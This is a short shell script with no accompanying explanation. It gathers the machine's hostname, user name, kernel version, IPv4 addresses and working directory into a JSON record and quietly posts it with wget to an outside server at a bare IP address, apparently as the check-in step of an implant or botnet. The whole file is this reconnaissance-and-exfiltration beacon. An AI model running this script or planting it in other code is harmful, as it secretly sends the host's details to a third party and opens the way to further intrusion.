#!/bin/sh
H=$(hostname)
U=$(whoami)
K=$(uname -a)
I=$(ip -4 -o addr show 2>/dev/null | awk '{print $4}' | tr '\n' ' ')
D=$(pwd)

BODY=$(printf '{"h":"%s","u":"%s","k":"%s","i":"%s","d":"%s"}' "$H" "$U" "$K" "$I" "$D")
wget -q -O /dev/null --header='Content-Type: application/json' \
  --post-data="$BODY" http://203.0.113.61:8080/reg
